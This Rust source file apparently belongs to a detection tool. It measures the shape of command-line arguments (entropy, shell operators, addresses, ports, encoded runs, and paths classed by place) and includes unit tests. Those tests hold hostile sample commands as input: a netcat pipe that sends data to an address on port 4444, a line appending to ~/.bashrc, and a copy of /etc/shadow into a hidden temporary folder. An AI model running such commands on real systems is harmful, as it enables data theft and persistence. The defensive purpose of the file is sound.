//! Shape of the arguments: lengths, entropy, make-up. Never which words.

use super::{PathClass, path_class::is_hidden};
use crate::event::split_args;

/// Measurements of an argument vector.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
pub struct ArgumentShape {
    /// Number of arguments, the program's name included.
    pub count: f32,
    /// Bytes of all arguments.
    pub bytes: f32,
    /// Bytes of the longest.
    pub longest: f32,
    /// Entropy of all bytes, bits per byte.
    pub entropy: f32,
    /// Entropy of the longest argument, bits per byte.
    pub longest_entropy: f32,
    /// Bytes that a shell gives a meaning to.
    pub shell_operators: f32,
    /// Share of decimal digits.
    pub digits: f32,
    /// Share of letters in upper case among letters.
    pub upper_case: f32,
    /// Longest run of base64 or hexadecimal alphabet.
    pub encoded_run: f32,
    /// Backslash escapes (`\x41`, `\101`).
    pub escapes: f32,
    /// Dotted-quad addresses.
    pub addresses: f32,
    /// Schemes with an authority (`name://`).
    pub locators: f32,
    /// Absolute paths.
    pub absolute_paths: f32,
    /// Numbers of three to five digits after a colon, slash or blank: ports.
    pub ports: f32,
    /// Newlines and semicolons: a program given as an argument.
    pub statements: f32,
    /// Pipe signs.
    pub pipes: f32,
    /// Angle brackets.
    pub redirections: f32,
    /// Arguments that begin with a hyphen.
    pub options: f32,
    /// Paths, wherever they stand, by the place that they name.
    pub places: Places,
}

/// How many paths name a place of each class.
#[derive(Clone, Copy, Debug, Default, PartialEq)]
pub struct Places {
    /// [`PathClass::Temporary`].
    pub temporary: f32,
    /// [`PathClass::Starting`].
    pub starting: f32,
    /// [`PathClass::Rights`].
    pub rights: f32,
    /// [`PathClass::Configuration`].
    pub configuration: f32,
    /// [`PathClass::Log`] and [`PathClass::History`].
    pub past: f32,
    /// [`PathClass::Kernel`].
    pub kernel: f32,
    /// [`PathClass::Program`].
    pub program: f32,
    /// [`PathClass::Home`] and [`PathClass::HiddenHome`].
    pub home: f32,
    /// Those with a part that begins with a dot, whatever their class.
    pub hidden: f32,
}

impl Places {
    /// Takes in one word, where it is a path.
    fn take_in(&mut self, word: &[u8]) {
        // What a shell puts in the place of these is somebody's home: whose makes
        // no difference to the class.
        let at_home = [&b"~/"[..], b"$HOME/", b"${HOME}/"]
            .iter()
            .find_map(|prefix| word.strip_prefix(*prefix));
        let class = match at_home {
            Some(inside) => PathClass::at_home(inside),
            None if word.first() == Some(&b'/') => PathClass::of(word),
            None => return,
        };
        if is_hidden(word) {
            self.hidden += 1.0;
        }
        let counted = match class {
            PathClass::Temporary => &mut self.temporary,
            PathClass::Starting => &mut self.starting,
            PathClass::Rights => &mut self.rights,
            PathClass::Configuration => &mut self.configuration,
            PathClass::Log | PathClass::History => &mut self.past,
            PathClass::Kernel => &mut self.kernel,
            PathClass::Program => &mut self.program,
            PathClass::Home | PathClass::HiddenHome => &mut self.home,
            PathClass::Served | PathClass::Other => return,
        };
        *counted += 1.0;
    }
}

/// Words looked at for paths: a long list of files says no more than its start.
const WORDS_MAX: usize = 256;

impl ArgumentShape {
    /// Measures zero-separated arguments.
    #[must_use]
    pub fn of(args: &[u8]) -> Self {
        let mut shape = Self::default();
        let mut longest: &[u8] = b"";
        for (index, argument) in split_args(args).enumerate() {
            shape.count += 1.0;
            if argument.len() > longest.len() {
                longest = argument;
            }
            match argument.first() {
                Some(b'/') if index > 0 => shape.absolute_paths += 1.0,
                Some(b'-') => shape.options += 1.0,
                _ => {}
            }
        }
        // Its own name says nothing of what it works on.
        let first = args.iter().position(|&byte| byte == 0).unwrap_or(0);
        words(&args[first..])
            .take(WORDS_MAX)
            .for_each(|word| shape.places.take_in(word));
        shape.bytes = args.len() as f32;
        shape.longest = longest.len() as f32;
        shape.entropy = entropy(args);
        shape.longest_entropy = entropy(longest);
        shape.encoded_run = encoded_run(args) as f32;
        shape.addresses = dotted_quads(args) as f32;
        shape.ports = ports(args) as f32;
        shape.locators = args.windows(3).filter(|window| window == b"://").count() as f32;
        shape.bytes_make_up(args);
        shape
    }

    fn bytes_make_up(&mut self, args: &[u8]) {
        let (mut digits, mut upper, mut letters) = (0u32, 0u32, 0u32);
        for (index, &byte) in args.iter().enumerate() {
            match byte {
                b'0'..=b'9' => digits += 1,
                b'A'..=b'Z' => {
                    upper += 1;
                    letters += 1;
                }
                b'a'..=b'z' => letters += 1,
                b'&' | b'$' | b'`' | b'(' | b')' => self.shell_operators += 1.0,
                b'|' => {
                    self.shell_operators += 1.0;
                    self.pipes += 1.0;
                }
                b'>' | b'<' => {
                    self.shell_operators += 1.0;
                    self.redirections += 1.0;
                }
                b';' | b'\n' => {
                    self.shell_operators += 1.0;
                    self.statements += 1.0;
                }
                b'\\' => {
                    let next = args.get(index + 1).copied().unwrap_or_default();
                    if next == b'x' || next.is_ascii_digit() {
                        self.escapes += 1.0;
                    }
                }
                _ => {}
            }
        }
        self.digits = ratio(digits, args.len());
        self.upper_case = ratio(upper, letters as usize);
    }
}

fn ratio(part: u32, whole: usize) -> f32 {
    if whole == 0 {
        0.0
    } else {
        part as f32 / whole as f32
    }
}

/// Shannon entropy in bits per byte; zero for nothing.
fn entropy(bytes: &[u8]) -> f32 {
    let mut counts = [0u32; 256];
    for &byte in bytes {
        counts[usize::from(byte)] += 1;
    }
    let total = bytes.len() as f32;
    counts
        .iter()
        .filter(|&&count| count > 0)
        .map(|&count| {
            let share = count as f32 / total;
            -share * share.log2()
        })
        .sum()
}

/// What stands between blanks, quotes and signs of a shell.
fn words(bytes: &[u8]) -> impl Iterator<Item = &[u8]> {
    bytes
        .split(|byte| {
            byte.is_ascii_whitespace()
                || matches!(
                    byte,
                    0 | b'"'
                        | b'\''
                        | b'`'
                        | b';'
                        | b'|'
                        | b'&'
                        | b'<'
                        | b'>'
                        | b'('
                        | b')'
                        | b'='
                        | b','
                        | b':'
                        | b'@'
                )
        })
        .filter(|word| word.len() > 1)
}

fn encoded_run(bytes: &[u8]) -> usize {
    let mut longest = 0;
    let mut run = 0;
    for &byte in bytes {
        if byte.is_ascii_alphanumeric() || byte == b'+' || byte == b'=' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    longest
}

fn dotted_quads(bytes: &[u8]) -> usize {
    bytes
        .split(|byte| !byte.is_ascii_digit() && *byte != b'.')
        .filter(|word| {
            let mut parts = 0;
            let numbers = word.split(|&byte| byte == b'.').all(|part| {
                parts += 1;
                !part.is_empty() && part.len() <= 3
            });
            numbers && parts == 4
        })
        .count()
}

fn ports(bytes: &[u8]) -> usize {
    let mut count = 0;
    let mut previous = 0u8;
    for word in bytes.chunk_by(|a, b| a.is_ascii_digit() == b.is_ascii_digit()) {
        let is_number = word.first().is_some_and(u8::is_ascii_digit);
        if is_number && (3..=5).contains(&word.len()) && matches!(previous, b':' | b'/' | b' ' | 0)
        {
            count += 1;
        }
        previous = word.last().copied().unwrap_or_default();
    }
    count
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn measures_what_it_says() {
        let shape = ArgumentShape::of(b"sh\0-c\0cat /a | nc 10.0.0.1 4444; id\0/etc/x\0");
        assert!((shape.count - 4.0).abs() < f32::EPSILON);
        assert!((shape.shell_operators - 2.0).abs() < f32::EPSILON);
        assert!((shape.statements - 1.0).abs() < f32::EPSILON);
        assert!((shape.addresses - 1.0).abs() < f32::EPSILON);
        assert!((shape.ports - 1.0).abs() < f32::EPSILON);
        assert!((shape.absolute_paths - 1.0).abs() < f32::EPSILON);
        assert!((shape.locators).abs() < f32::EPSILON);
    }

    #[test]
    fn encoded_text_has_a_long_run_and_high_entropy() {
        let plain = ArgumentShape::of(b"ls\0-la\0/var/tmp\0");
        let encoded =
            ArgumentShape::of(b"x\0ZWNobyBoZWxsbyB3b3JsZCBmcm9tIGJhc2U2NCBlbmNvZGVkIHRleHQK\0");
        assert!(encoded.encoded_run > 40.0 && plain.encoded_run < 8.0);
        assert!(encoded.longest_entropy > plain.longest_entropy + 1.0);
    }

    #[test]
    fn paths_count_by_the_place_that_they_name() {
        let script = b"sh\0-c\0echo x >> ~/.bashrc; cp /etc/shadow /tmp/.a/b && cat '/var/log/syslog'>/dev/null\0";
        let shape = ArgumentShape::of(script);
        let places = shape.places;
        let expected = Places {
            temporary: 1.0,
            starting: 1.0,
            rights: 1.0,
            past: 1.0,
            kernel: 1.0,
            hidden: 2.0,
            ..Places::default()
        };
        assert_eq!(places, expected);
        let operators = [shape.redirections, shape.pipes, shape.options];
        assert_eq!(
            operators.map(f32::to_bits),
            [3.0f32, 0.0, 1.0].map(f32::to_bits)
        );
        let long = [&b"a\0/tmp/"[..], &[b'x'; 5_000][..]].concat();
        assert!((ArgumentShape::of(&long).places.temporary - 1.0).abs() < f32::EPSILON);
    }

    #[test]
    fn nothing_measures_zero() {
        assert_eq!(ArgumentShape::of(b""), ArgumentShape::default());
        assert!((entropy(&[0, 1, 2, 3]) - 2.0).abs() < 1e-6);
    }
}
